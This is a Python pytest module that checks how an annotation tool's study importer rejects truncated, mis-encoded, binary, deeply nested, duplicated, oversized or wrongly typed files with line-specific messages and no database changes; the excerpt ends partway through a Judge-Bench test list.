"""A corpus of hostile study files: each is rejected whole with a message naming the problem
(and its line or record), and the database is left exactly as it was; formula-injection
strings that do get in leave every exported CSV cell inert.

The files are built here, byte by byte; nothing large is stored in the repository.
`tests/unit/test_import.py` holds the basic cases (a broken JSON line, missing outputs,
duplicate ids, Latin-1 in JSONL, an empty file); this corpus adds what an attacker, a
crashed upload or a wrong "Save as…" produces.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import time
from unittest import mock

import pytest
from django.apps import apps
from django.core.management import CommandError, call_command
from django.db import connection
from rest_framework.authtoken.models import Token
from rest_framework.parsers import MultiPartParser
from rest_framework.test import APIClient

from annotator import importers, ratings, services
from annotator.errors import ImportRejected, ImportTooLarge
from annotator.models import Annotation, Input, JudgeRating, Output, Study
from annotator.renderers import FORMULA_PREFIXES, csv_text
from tests.conftest import LLMBAR, boss_client, make_superuser, pairwise_bundle
from tests.leasing import next_lease

SYSTEMS = ("m1", "m2")


# --- helpers --------------------------------------------------------------------------------
def counts() -> dict[str, int]:
    """Rows of every model of the annotator and protocol apps (no model has a default
    manager that filters), in one statement: a test reads them twice per import."""
    models = [m for app in ("annotator", "protocol") for m in apps.get_app_config(app).get_models()]
    tables = [connection.ops.quote_name(m._meta.db_table) for m in models]
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {t})" for t in tables))
        row = cursor.fetchone()
    return {m._meta.label: n for m, n in zip(models, row, strict=True)}


@pytest.fixture
def existing(db) -> dict[str, int]:
    """A database that already holds an adaptive study (items, pairs, a round, a ledger) and
    a static one with labels, so "unchanged" is checked against rows that exist."""
    services.study_import(
        pairwise_bundle(n_inputs=2, collection="adaptive", batch_size=1, redundancy=1),
        filename="adaptive.jsonl",
    )
    study = services.study_import(pairwise_bundle(n_inputs=2), filename="static.jsonl")
    part = services.participation_enter(study=study, platform="link", external_id="w0")
    assignment = next_lease(participation=part)
    services.annotation_submit(
        annotator=part.annotator, token=assignment.token, data={"answer": "left"}
    )
    before = counts()
    assert before["annotator.Annotation"] and before["protocol.Round"]
    return before


def rejected(data, filename: str = "x.jsonl", **overrides) -> list[str]:
    """Import through the service, expect a rejection that changed nothing."""
    before = counts()
    errors = refused(data, filename, **overrides)
    assert counts() == before, "a rejected file must leave every table unchanged"
    return errors


def refused(data, filename: str = "x.jsonl", **overrides) -> list[str]:
    """The rejection alone; loops over many cuts compare the row counts once at the end."""
    with pytest.raises(ImportRejected) as info:
        services.study_import(data, filename=filename, overrides=overrides or None)
    assert info.value.errors, "a rejection names at least one problem"
    return info.value.errors


def one_error(data, filename: str = "x.jsonl", **overrides) -> str:
    errors = rejected(data, filename, **overrides)
    assert len(errors) == 1, errors
    return errors[0]


def jsonl(records: list, study: dict | None = None) -> bytes:
    """A JSONL bundle written as a text editor would: raw UTF-8, not \\u escapes."""
    lines = [json.dumps({"study": study}, ensure_ascii=False)] if study is not None else []
    lines += [r if isinstance(r, str) else json.dumps(r, ensure_ascii=False) for r in records]
    return ("\n".join(lines) + "\n").encode()


def records(n: int = 4, systems=SYSTEMS) -> list[dict]:
    return [
        {
            "id": f"q{i}",
            "input": f"Frage {i}: was ist größer, 日本 oder Ägypten?",
            "outputs": {s: f"Antwort {i} von {s} — ça dépend" for s in systems},
        }
        for i in range(n)
    ]


PAIRWISE = {"kind": "pairwise", "redundancy": 1}


def csv_bundle(n: int = 3, quoting: int = csv.QUOTE_ALL) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=quoting, lineterminator="\n")
    writer.writerow(["input_id", "input", "system", "output"])
    for r in records(n):
        for system, text in r["outputs"].items():
            writer.writerow([r["id"], r["input"], system, text])
    return buffer.getvalue().encode()


def judgebench(n: int = 4) -> dict:
    return {
        "dataset": "hostile",
        "annotations": [
            {"metric": "pref", "category": "categorical", "labels_list": ["model_a", "model_b"]}
        ],
        "instances": [
            {
                "id": f"j{i}",
                "instance": {"input": f"Frage {i} — 日本", "output_a": "ä", "output_b": "ß"},
                "annotations": {"pref": {"individual_human_scores": ["model_a", "model_b"]}},
            }
            for i in range(n)
        ],
    }


def line_spans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) byte offsets of each line's content, without its newline."""
    spans, start = [], 0
    for line in data.split(b"\n")[:-1]:
        spans.append((start, start + len(line)))
        start += len(line) + 1
    return spans


def test_the_corpus_files_are_valid_before_they_are_damaged(existing):
    """The damaged files below start from these; each imports cleanly as it is."""
    assert services.study_import(jsonl(records(), PAIRWISE), filename="ok.jsonl").inputs.count()
    assert services.study_import(csv_bundle(), filename="ok.csv", overrides={"kind": "pairwise"})
    assert services.study_import(json.dumps(judgebench()).encode(), filename="ok.json")


# --- truncated files ------------------------------------------------------------------------
def test_jsonl_cut_inside_the_last_record_is_rejected_at_every_byte(existing):
    """A download or upload that stopped early: every cut strictly inside the last line (also
    in the middle of a multi-byte character) is refused and names that line."""
    data = jsonl(records(3), PAIRWISE)
    start, end = line_spans(data)[-1]
    number = len(line_spans(data))
    for cut in range(start + 1, end):
        errors = refused(data[:cut])
        assert len(errors) == 1 and errors[0].startswith(f"line {number}: "), (cut, errors)
        assert "not valid JSON" in errors[0] or "ends in the middle of a character" in errors[0]
    assert counts() == existing


def test_jsonl_cut_in_the_middle_of_the_file_is_rejected(existing):
    """Cut inside a record in the middle (the rest of the file lost), and inside the
    ``study`` line itself."""
    data = jsonl(records(6), PAIRWISE)
    spans = line_spans(data)
    for number in (1, 3, 4):  # the study line, and two records in the middle
        start, end = spans[number - 1]
        for cut in range(start + 1, end, 7):
            errors = refused(data[:cut])
            assert any(e.startswith(f"line {number}: ") for e in errors), (cut, errors)
    assert counts() == existing


def test_csv_cut_inside_a_row_is_rejected_at_every_byte(existing):
    """Fully quoted CSV (what spreadsheets and ``csv.writer`` write for text): a cut anywhere
    inside any data row leaves an open quote or a short row; the message names that row."""
    data = csv_bundle(3)
    spans = line_spans(data)
    for number, (start, end) in enumerate(spans[1:], start=2):
        for cut in range(start + 1, end):
            errors = refused(data[:cut], "cut.csv", kind="pairwise")
            assert any(e.startswith(f"line {number}: ") for e in errors), (cut, errors)
    assert counts() == existing
    open_quote = rejected(data[: spans[3][0] + 8], "cut.csv", kind="pairwise")
    assert "line 4: the file ends inside a quoted field; it looks cut off" in open_quote


def test_csv_cut_before_an_inputs_last_row_is_rejected(existing):
    """Minimally quoted CSV cut inside a row: the row is short, or (cut inside its last
    field) its input is left without the other system's output. (A cut inside the last,
    unquoted field of an input's last row leaves a well-formed shorter file: no format
    without a checksum can tell.)"""
    data = csv_bundle(3, quoting=csv.QUOTE_MINIMAL)
    spans = line_spans(data)
    for number in (4, 6):  # an input's first row; its second row is lost
        start, end = spans[number - 1]
        for cut in range(start + 1, end):
            errors = refused(data[:cut], "cut.csv", kind="pairwise")
            assert any(e.startswith(f"line {number}") for e in errors), (cut, errors)
    start, end = spans[1]  # the first row: a single system is left
    for cut in range(start + 1, end):
        errors = refused(data[:cut], "cut.csv", kind="pairwise")
        assert errors[-1] == "a pairwise study needs outputs from at least two systems" or any(
            e.startswith("line 2") for e in errors
        ), (cut, errors)
    assert counts() == existing


def test_judgebench_json_cut_mid_file_is_rejected_with_its_line(existing):
    data = json.dumps(judgebench(), ensure_ascii=False, indent=1).encode()
    for cut in range(1, len(data) - 1, 3):
        errors = refused(data[:cut], "cut.json")
        line = data[:cut].count(b"\n") + 1
        assert len(errors) == 1 and errors[0].startswith(f"line {line}: "), (cut, errors)
    assert counts() == existing


# --- encodings -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("encoding", "message"),
    [
        ("utf-16", "line 1: the file is UTF-16 text (it starts with a UTF-16 byte order mark)"),
        ("utf-16-be-bom", "line 1: the file is UTF-16 text (it starts with a UTF-16 byte order"),
        ("utf-16-le", "line 1: the file looks like UTF-16 text without a byte order mark"),
        ("utf-16-be", "line 1: the file looks like UTF-16 text without a byte order mark"),
        ("utf-32", "line 1: the file is UTF-32 text"),
    ],
)
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json"])
def test_utf16_and_utf32_are_refused_with_a_clear_message(existing, encoding, message, fmt):
    text = {
        "jsonl": jsonl(records(), PAIRWISE),
        "csv": csv_bundle(),
        "json": json.dumps(judgebench(), ensure_ascii=False).encode(),
    }[fmt].decode()
    if encoding == "utf-16-be-bom":
        data = "\ufeff".encode("utf-16-be") + text.encode("utf-16-be")
    else:
        data = text.encode(encoding)
    error = one_error(data, f"x.{fmt}", **({"kind": "pairwise"} if fmt == "csv" else {}))
    assert error.startswith(message) and "save it as UTF-8" in error


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_latin1_and_windows_1252_in_csv_and_judgebench_name_the_line(existing, encoding):
    data = csv_bundle(3).decode().encode(encoding, errors="replace")
    error = one_error(data, "x.csv", kind="pairwise")
    assert error.startswith("line 2: the file is not UTF-8 text (byte ")
    doc = json.dumps(judgebench(), ensure_ascii=False, indent=1).encode(encoding, "replace")
    error = one_error(doc, "x.json")
    lines = doc.split(b"\n")
    bad_line = next(i for i, line in enumerate(lines, 1) if any(b > 127 for b in line))
    assert bad_line > 1
    assert error.startswith(f"line {bad_line}: the file is not UTF-8 text")


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json"])
def test_utf8_with_a_bom_is_accepted(existing, fmt):
    """What Windows Notepad and Excel's "CSV UTF-8" write: the BOM is not part of the first
    key or column name."""
    data = {
        "jsonl": jsonl(records(), PAIRWISE),
        "csv": csv_bundle(),
        "json": json.dumps(judgebench(), ensure_ascii=False).encode(),
    }[fmt]
    study = services.study_import(
        b"\xef\xbb\xbf" + data,
        filename=f"bom.{fmt}",
        overrides={"kind": "pairwise"} if fmt == "csv" else None,
    )
    first = study.inputs.order_by("id").first()
    assert first.external_id in ("q0", "j0")
    assert "日本" in first.text


def test_unicode_line_separators_inside_jsonl_text_are_not_line_breaks(existing):
    """U+2028, U+2029 and U+0085 may appear raw inside JSON strings; they do not split a
    record (Python's ``str.splitlines`` would)."""
    rows = records(2)
    rows[0]["outputs"]["m1"] = "eins\u2028zwei\u2029drei\x85vier"
    study = services.study_import(jsonl(rows, PAIRWISE), filename="sep.jsonl")
    output = Output.objects.get(input__study=study, system__name="m1", input__external_id="q0")
    assert output.text == "eins\u2028zwei\u2029drei\x85vier"
    assert study.inputs.count() == 2


# --- NUL bytes, binary garbage, text no database stores -----------------------------------------
@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (
            jsonl(records(3), PAIRWISE).replace(b"Antwort 1 von m2", b"Ant\x00wort"),
            "nul.jsonl",
            "line 3: the file contains a NUL byte (byte ",
        ),
        (
            csv_bundle(2).replace(b'"q1"', b'"q\x001"'),
            "nul.csv",
            "line 4: the file contains a NUL byte (byte ",
        ),
        (
            random.Random(6).randbytes(4096),
            "garbage.jsonl",
            "the file contains a NUL byte",
        ),
        (bytes(range(1, 256)) * 8, "garbage.csv", "line 2: the file is not UTF-8 text (byte 127"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image.png", "line 3: the file contains a NUL"),
        (gzip.compress(pairwise_bundle(), mtime=0), "bundle.jsonl.gz", "contains a NUL byte"),
        (b"\x7fELF\x02\x01\x01" + bytes(64), "a.out", "line 1: the file contains a NUL byte"),
    ],
)
def test_nul_bytes_and_binary_files_are_refused(existing, data, filename, message):
    assert message in one_error(data, filename)


@pytest.mark.parametrize(
    ("where", "value", "message"),
    [
        ("output", "Ant\u0000wort", "line 3: text contains a NUL character (\\u0000)"),
        ("input", "Fra\u0000ge", "line 3: text contains a NUL character (\\u0000)"),
        ("id", "q\u0000", "line 3: text contains a NUL character (\\u0000)"),
        ("metadata", {"k\u0000": 1}, "line 3: text contains a NUL character (\\u0000)"),
        ("output", "half \ud83d of an emoji", "line 3: text contains an unpaired surrogate"),
        ("system", "m\udc80", "line 3: text contains an unpaired surrogate (\\udc80)"),
        ("reference", "\udfff", "line 3: text contains an unpaired surrogate (\\udfff)"),
    ],
)
def test_escaped_nul_and_lone_surrogates_are_refused(existing, where, value, message):
    """``\\u0000`` and ``\\ud83d`` are valid JSON escapes but no database column stores them
    (PostgreSQL refuses NUL in text and jsonb; UTF-8 has no lone surrogates): they are
    refused at parsing, not half-way through the write."""
    rows = records(3)
    row = rows[1]
    if where == "system":
        row["outputs"] = {"m1": "x", value: "y"}
    elif where == "metadata":
        row["metadata"] = value
    elif where == "output":
        row["outputs"]["m2"] = value
    else:
        row[where] = value
    data = "\n".join([json.dumps({"study": PAIRWISE})] + [json.dumps(r) for r in rows]).encode()
    assert one_error(data).startswith(message)


def test_escaped_nul_in_judgebench_and_in_the_config_is_refused(existing):
    doc = judgebench()
    doc["instances"][2]["instance"]["output_b"] = "\u0000"
    assert one_error(json.dumps(doc).encode(), "x.json") == (
        "instances[2]: text contains a NUL character (\\u0000)"
    )
    error = one_error(jsonl(records(), PAIRWISE), name="study\u0000")
    assert error == "config: text contains a NUL character (\\u0000)"


def test_json_nested_ten_thousand_deep_is_refused_not_a_crash(existing):
    assert one_error(b"[" * 10_000 + b"]" * 10_000, "deep.json") == (
        f"line 1: not valid JSON (nested too deeply at column {importers.MAX_DEPTH + 1})"
    )
    deep = b'{"id": "x", "metadata": ' + b'{"a": ' * 10_000 + b"1" + b"}" * 10_001
    errors = rejected(jsonl(records(1), PAIRWISE) + deep + b"\n")
    assert errors == ["line 3: not valid JSON (nested too deeply)"]


# --- duplicates -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (  # the same system declared twice
            jsonl(records(2), {**PAIRWISE, "systems": ["m1", "m2", "m1"]}),
            "x.jsonl",
            "line 1: 'systems' names 'm1' more than once",
        ),
        (  # one input with two outputs of one system (a JSON object with a repeated key)
            jsonl(
                records(1) + ['{"id": "q9", "outputs": {"m1": "a", "m2": "b", "m1": "c"}}'],
                PAIRWISE,
            ),
            "x.jsonl",
            "line 3: the key 'm1' appears twice in one object",
        ),
        (  # an input line with the same key twice ("outputs" given twice: which one?)
            jsonl(['{"id": "q9", "outputs": {"m1": "a", "m2": "b"}, "outputs": {}}'], PAIRWISE),
            "x.jsonl",
            "line 2: the key 'outputs' appears twice in one object",
        ),
        (  # ids 7 and "7" are the same input
            jsonl(
                [{"id": 7, "outputs": {"m1": "a", "m2": "b"}}]
                + [{"id": "7", "outputs": {"m1": "a", "m2": "b"}}],
                PAIRWISE,
            ),
            "x.jsonl",
            "line 3 (input '7'): duplicate input id '7' (first on line 2)",
        ),
        (  # a CSV row repeated: two outputs for the same input and system
            csv_bundle(2) + f'"q1","{records(2)[1]["input"]}","m1","again"\n'.encode(),
            "x.csv",
            "line 6: duplicate output for input 'q1' and system 'm1'",
        ),
        (
            b"input_id,input,system,output,output\nq,x,m1,a,b\nq,x,m2,a,b\n",
            "x.csv",
            "line 1: the CSV header names column(s) output twice",
        ),
    ],
)
def test_duplicates_are_refused(existing, data, filename, message):
    errors = rejected(data, filename, **({"kind": "pairwise"} if filename.endswith("csv") else {}))
    assert message in errors


def test_duplicate_judged_property_and_duplicate_system_in_config(existing):
    doc = judgebench()
    doc["annotations"].append(dict(doc["annotations"][0]))
    assert one_error(json.dumps(doc).encode(), "x.json") == (
        "annotations[1]: property 'pref' is declared twice"
    )
    error = one_error(csv_bundle(), "x.csv", kind="pairwise", systems=["m1", "m1", "m2"])
    assert error == "config: 'systems' names 'm1' more than once"


# --- size limit -------------------------------------------------------------------------------
LIMIT = 16 * 1024


@pytest.fixture
def small_limit(settings) -> int:
    settings.HUMEVAL_IMPORT_MAX_BYTES = LIMIT
    return LIMIT


def big_bundle(size: int) -> bytes:
    """A valid bundle of at least ``size`` bytes: only its size is wrong."""
    n = 1
    while len(data := pairwise_bundle(n_inputs=n)) < size:
        n *= 2
    return data


def test_size_limit_is_a_setting_with_a_200_mib_default():
    import os

    from django.conf import settings

    assert importers.DEFAULT_MAX_BYTES == 200 * 1024 * 1024
    if "HUMEVAL_IMPORT_MAX_BYTES" not in os.environ:
        assert settings.HUMEVAL_IMPORT_MAX_BYTES == importers.DEFAULT_MAX_BYTES
    assert importers.max_import_bytes() == settings.HUMEVAL_IMPORT_MAX_BYTES


def test_a_file_above_the_limit_is_refused_before_it_is_parsed(existing, small_limit):
    at_limit = jsonl(records(1), PAIRWISE)
    at_limit = at_limit + b" " * (LIMIT - len(at_limit))
    assert len(at_limit) == LIMIT
    assert services.study_import(at_limit, filename="ok.jsonl")  # the limit itself is fine
    before = counts()
    with mock.patch.object(importers, "sniff", side_effect=AssertionError("parsed")):
        with pytest.raises(ImportTooLarge) as info:
            services.study_import(at_limit + b"\n", filename="big.jsonl")
    assert counts() == before
    assert info.value.status == 413
    assert info.value.errors == [
        "the file is too large: the import limit is 16.0 KiB (16384 bytes) and the file is "
        "16.0 KiB (16385 bytes); split it into smaller files or raise HUMEVAL_IMPORT_MAX_BYTES"
    ]


class Unreadable(io.RawIOBase):
    """A huge upload: its size is known, reading it would take long."""

    size = 50 * 1024**3

    def read(self, n: int = -1) -> bytes:
        raise AssertionError("a file above the limit must not be read")


class Endless(io.RawIOBase):
    """A stream of unknown size that never ends: only limit + 1 bytes may be read."""

    def __init__(self) -> None:
        self.served = 0

    def readable(self) -> bool:
        return True

    def read(self, n: int = -1) -> bytes:
        assert n >= 0, "an unbounded read of an endless stream"
        self.served += n
        return b"{" * n


def test_a_huge_upload_is_refused_unread_and_a_stream_is_read_only_to_the_limit(
    existing, small_limit
):
    started = time.perf_counter()
    error = one_error(Unreadable(), "huge.jsonl")
    assert error.startswith("the file is too large: the import limit is 16.0 KiB")
    assert "the file is 50.0 GiB (53687091200 bytes)" in error
    stream = Endless()
    error = one_error(stream, "endless.jsonl")
    assert "the file is larger than that" in error
    assert stream.served == LIMIT + 1
    assert time.perf_counter() - started < 2


def test_cli_refuses_a_file_above_the_limit(existing, small_limit, tmp_path):
    path = tmp_path / "big.jsonl"
    path.write_bytes(big_bundle(LIMIT + 1))
    before = counts()
    with mock.patch.object(importers, "sniff", side_effect=AssertionError("parsed")):
        with pytest.raises(CommandError, match="the file is too large: the import limit is 16.0"):
            call_command("import_study", str(path))
    assert counts() == before


def test_admin_refuses_a_file_above_the_limit(existing, small_limit):
    client = boss_client()
    upload = io.BytesIO(big_bundle(LIMIT + 1))
    upload.name = "big.jsonl"
    before = counts()
    page = client.post("/admin/annotator/study/import/", {"file": upload}).content.decode()
    assert "nothing was imported" in page and "the file is too large" in page
    assert counts() == before


def api_client() -> APIClient:
    staff = make_superuser("staff")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=staff).key}")
    return client


def test_api_answers_413_with_json_for_a_file_above_the_limit(existing, small_limit):
    client = api_client()
    before = counts()
    upload = io.BytesIO(big_bundle(LIMIT + 1)[: LIMIT + 1000])  # within the multipart slack
    upload.name = "big.jsonl"
    with mock.patch.object(importers, "sniff", side_effect=AssertionError("parsed")):
        response = client.post("/api/studies/import/", {"file": upload}, format="multipart")
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["detail"] == "The file was rejected; nothing was imported."
    assert body["errors"][0].startswith("the file is too large: the import limit is 16.0 KiB")
    assert counts() == before


def test_api_refuses_a_declared_huge_body_before_parsing_it(existing, small_limit):
    """The request's Content-Length already exceeds the limit: 413 without reading the body
    (the multipart parser is never run)."""
    client = api_client()
    upload = io.BytesIO(b"x" * (1024 * 1024))
    upload.name = "huge.jsonl"
    before = counts()
    started = time.perf_counter()
    with mock.patch.object(MultiPartParser, "parse", side_effect=AssertionError("parsed")):
        response = client.post("/api/studies/import/", {"file": upload}, format="multipart")
    assert response.status_code == 413, response.content
    assert response.json()["errors"] == [
        "the file is too large: the import limit is 16.0 KiB (16384 bytes) and the file is "
        "larger than that; split it into smaller files or raise HUMEVAL_IMPORT_MAX_BYTES"
    ]
    assert counts() == before
    assert time.perf_counter() - started < 2


def test_api_ratings_upload_has_the_same_limit(existing, small_limit):
    client = api_client()
    study = Study.objects.filter(collection="all").get()
    rows = b"".join(
        b'{"judge": "j", "input_id": "in0", "system": "alpha", "score": 0.5}\n'
        for _ in range(LIMIT // 60)
    )
    upload = io.BytesIO(rows)
    upload.name = "ratings.jsonl"
    response = client.post(
        f"/api/studies/{study.pk}/ratings/", {"file": upload}, format="multipart"
    )
    assert response.status_code == 413
    assert response.json()["errors"][0].startswith("the file is too large")


def test_cli_ratings_import_refuses_a_file_above_the_limit(existing, small_limit, tmp_path):
    study = Study.objects.filter(collection="all").get()
    path = tmp_path / "ratings.jsonl"
    path.write_bytes(
        b"".join(
            b'{"judge": "j", "input_id": "in0", "system": "alpha", "score": 0.5}\n'
            for _ in range(LIMIT // 60)
        )
    )
    before = counts()
    with mock.patch.object(ratings, "parse_ratings", side_effect=AssertionError("parsed")):
        with pytest.raises(CommandError, match="the file is too large: the import limit is 16.0"):
            call_command("import_ratings", str(study.pk), str(path))
    assert counts() == before
    assert not JudgeRating.objects.exists()


def test_api_hostile_files_answer_400_json_never_500(existing):
    """A sample of the corpus through the API: each answers 400 with the reasons in JSON."""
    client = api_client()
    corpus = [
        ("a.jsonl", pairwise_bundle().decode().encode("utf-16")),
        ("b.jsonl", b'{"study": {"kind": "pairwise", "name": "' + b"n" * 500 + b'"}}\n'),
        ("c.json", b"[" * 10_000 + b"]" * 10_000),
        ("d.jsonl", jsonl(records(2), {**PAIRWISE, "gold_rate_start": float("nan")})),
        ("e.csv", csv_bundle(2)[:-9]),
        ("f.json", json.dumps({**judgebench(), "instances": {"0": {}}}).encode()),
        ("g.jsonl", jsonl(records(2), {**PAIRWISE, "lease_seconds": 10**12})),
        ("h.bin", random.Random(1).randbytes(2048)),
    ]
    for name, data in corpus:
        before = counts()
        upload = io.BytesIO(data)
        upload.name = name
        response = client.post(
            "/api/studies/import/", {"file": upload, "kind": "pairwise"}, format="multipart"
        )
        assert response.status_code == 400, (name, response.content[:300])
        assert response.json()["errors"], name
        assert counts() == before, name


# --- wrong types and missing fields -----------------------------------------------------------
def line(record) -> bytes:
    return jsonl([record], PAIRWISE)


OK = {"m1": "a", "m2": "b"}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (line({"id": True, "outputs": OK}), "line 2: missing 'id' (a string or number"),
        (line({"id": None, "outputs": OK}), "line 2: missing 'id' (a string or number"),
        (line({"id": ["q"], "outputs": OK}), "line 2: missing 'id' (a string or number"),
        (line({"id": 2.5, "outputs": OK}), "line 2: missing 'id' (a string or number"),
        (line({"id": "q", "outputs": ["a", "b"]}), "line 2 (input 'q'): missing 'outputs'"),
        (line({"id": "q", "outputs": "a"}), "line 2 (input 'q'): missing 'outputs'"),
        (line({"id": "q"}), "line 2 (input 'q'): missing 'outputs'"),
        (
            line({"id": "q", "outputs": {"m1": 5, "m2": "b"}}),
            "line 2 (input 'q'): output of system 'm1' is empty or not text",
        ),
        (
            line({"id": "q", "outputs": {"m1": None, "m2": "b"}}),
            "line 2 (input 'q'): output of system 'm1' is empty or not text",
        ),
        (
            line({"id": "q", "input": {"text": "x"}, "outputs": OK}),
            "line 2 (input 'q'): 'input' must be text or a conversation (a list of messages)",
        ),
        (
            line({"id": "q", "input": [{"role": "user"}], "outputs": OK}),
            "line 2 (input 'q'): 'input': message 1 has no text 'content'",
        ),
        (
            line({"id": "q", "input": [{"role": "bot", "content": "x"}], "outputs": OK}),
            "line 2 (input 'q'): 'input': message 1 has role 'bot'; a role is one of",
        ),
        (
            line({"id": "q", "outputs": {"m1": [{"role": "user", "content": "x"}], "m2": "b"}}),
            "output of system 'm1': a conversation output needs at least one 'assistant'",
        ),
        (
            line({"id": "q", "metadata": [1], "outputs": OK}),
            "line 2 (input 'q'): 'metadata' must be an object",
        ),
        (
            line({"id": "q", "reference": 3, "outputs": OK}),
            "line 2 (input 'q'): 'reference' must be text",
        ),
        (
            line({"id": "q", "priority": "high", "outputs": OK}),
            "line 2 (input 'q'): 'priority' must be a finite number",
        ),
        (
            line({"id": "q", "priority": 10**400, "outputs": OK}),
            "line 2 (input 'q'): 'priority' must be a finite number",
        ),
        (
            b'{"id": "q", "priority": NaN, "outputs": {"m1": "a", "m2": "b"}}\n',
            "line 1: a number is not finite (nan)",
        ),
        (
            b'{"id": "q", "priority": 1e999, "outputs": {"m1": "a", "m2": "b"}}\n',
            "line 1: a number is not finite (inf)",
        ),
        (
            b'{"id": 1' + b"0" * 5000 + b', "outputs": {"m1": "a", "m2": "b"}}\n',
            "line 1: not valid JSON (a number has too many digits)",
        ),
        (jsonl(['["q", {"m1": "a"}]'], PAIRWISE), "line 2: each line must be a JSON object"),
        (jsonl(['"just text"'], PAIRWISE), "line 2: each line must be a JSON object"),
        (
            line({"id": "q", "outputs": {"m1": "a", " ": "b"}}),
            "study: a system name is empty",
        ),
        (
            line({"id": "q" * 201, "outputs": OK}),
            "is longer than 200 characters",
        ),
        (
            line({"id": "q", "outputs": {"m" * 201: "a", "m2": "b"}}),
            "is longer than 200 characters",
        ),
    ],
)
def test_wrong_types_in_an_input_line_are_named(existing, data, message):
    assert any(message in e for e in rejected(data)), rejected(data)


@pytest.mark.parametrize(
    ("study", "message"),
    [
        ("pairwise", "line 1: 'study' must be an object"),
        ({"kind": "pairwise", "redundancy": "3"}, "line 1: study option 'redundancy' must be int"),
        ({"kind": "pairwise", "redundancy": True}, "line 1: study option 'redundancy' must be int"),
        ({"kind": "pairwise", "allow_tie": "yes"}, "line 1: study option 'allow_tie' must be bool"),
        ({"kind": "pairwise", "colour": "red"}, "line 1: unknown study option 'colour'"),
        ({"kind": "pairwise", "gamma": "0.05"}, "line 1: study option 'gamma' must be float"),
        ({"kind": "pairwise", "budget": -5}, "study: 'budget': Ensure this value is greater"),
        ({"kind": "pairwise", "redundancy": 101}, "study: 'redundancy': Ensure this value is less"),
        (
            {"kind": "pairwise", "redundancy": 10**30},
            "line 1: study option 'redundancy' is out of range (at most 2147483647)",
        ),
        (
            {"kind": "pairwise", "lease_seconds": 10**12},
            "line 1: study option 'lease_seconds' is out of range (at most 2147483647)",
        ),
        ({"kind": "pairwise", "name": "n" * 201}, "study: 'name': Ensure this value has at most"),
        (
            {"kind": "pairwise", "completion_code": "c" * 65},
            "study: 'completion_code': Ensure this value has at most 64 characters",
        ),
        ({"kind": "pairwise", "systems": "m1,m2"}, "line 1: 'systems' must be a list of names"),
        ({"kind": "pairwise", "systems": ["m1", ""]}, "line 1: 'systems' must be a list of names"),
        ({"kind": "likert", "criteria": 5}, "line 1: 'criteria' must be a list of criteria"),
        ({"kind": "likert", "criteria": "abc"}, "line 1: 'criteria' must be a list of criteria"),
        (
            {"kind": "likert", "criteria": [{"name": "a", "label": "l" * 201}]},
            "study, criterion 1: the label of criterion 'a' is longer than 200 characters",
        ),
        (
            {"kind": "likert", "criteria": [{"name": "a", "scale": [1, "5"]}]},
            "study, criterion 1: 'scale' must be [min, max] whole numbers, 2 to 21 points",
        ),
    ],
)
def test_wrong_study_options_are_named(existing, study, message):
    data = jsonl(records(2), study)
    assert any(message in e for e in rejected(data)), rejected(data)


def test_nan_and_infinite_option_values_are_refused(existing):
    for value in (b"NaN", b"Infinity", b"-Infinity"):
        data = b'{"study": {"kind": "pairwise", "gold_rate_start": ' + value + b"}}\n"
        data += jsonl(records(1))
        assert one_error(data).startswith("line 1: a number is not finite")


def test_cli_config_with_wrong_types_fails_cleanly(existing, tmp_path):
    data, config = tmp_path / "s.csv", tmp_path / "c.json"
    data.write_bytes(csv_bundle())
    for bad, message in (
        ('{"kind": "pairwise", "criteria": 5}', "config: 'criteria' must be a list of criteria"),
        ('{"kind": "pairwise", "redundancy": "two"}', "config: study option 'redundancy' must"),
        ('["pairwise"]', "must hold one JSON object"),
    ):
        config.write_text(bad)
        before = counts()
        with pytest.raises(CommandError, match=message):
            call_command("import_study", str(data), "--config", str(config))
        assert counts() == before


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("input_id,input,system,output\nq1,x,m1\n", "line 2: wrong number of fields"),
        ("input_id,input,system,output\nq1,x,m1,a,extra\n", "line 2: wrong number of fields"),
        ("input_id,input,system,output\n,x,m1,a\n", "line 2: 'input_id' and 'system' must not"),
        ("input_id,input,system,output\nq1,x,m1,   \n", "line 2: output of system 'm1' is empty"),
        (
            'input_id,input,system,output\nq1,x,m1,"a"b\n',
            "line 2: malformed CSV (',' expected after '\"')",
        ),
        (
            "input_id,input,system,output,priority\nq1,x,m1,a,nan\nq1,x,m2,b,nan\n",
            "line 2: priority 'nan' is not a finite number",
        ),
        (
            "input_id,input,system,output,priority\nq1,x,m1,a,1e999\nq1,x,m2,b,1e999\n",
            "line 2: priority '1e999' is not a finite number",
        ),
        ("input_id,input,system,output\n", "the file holds no inputs"),
    ],
)
def test_malformed_csv_rows_are_named(existing, text, message):
    errors = rejected(text.encode(), "x.csv", kind="pairwise")
    assert any(message in e for e in errors), errors


# --- empty files -------------------------------------------------------------------------------
@pytest.mark.parametrize("filename", ["e.jsonl", "e.csv", "e.json", "e"])
@pytest.mark.parametrize("data", [b"", b"   \n\n\t\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n \r\n"])
def test_empty_files_are_refused(existing, filename, data):
    assert one_error(data, filename) == "the file is empty"


# --- Judge-Bench of the wrong shape -------------------------------------------------------------
def jb(**changes) -> bytes:
    doc = judgebench(2)
    for path, value in changes.items():
        target = doc
        *parents, last = path.split("__")
        for key in parents:
            target = target[int(key) if key.isdigit() else key]
        target[int(last) if last.isdigit() else last] = value
    return json.dumps(doc).encode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'[{"instance": "x"}]', "a Judge-Bench file is an object with an 'instances' list"),
        (b'"instances"', "a Judge-Bench file is an object with an 'instances' list"),
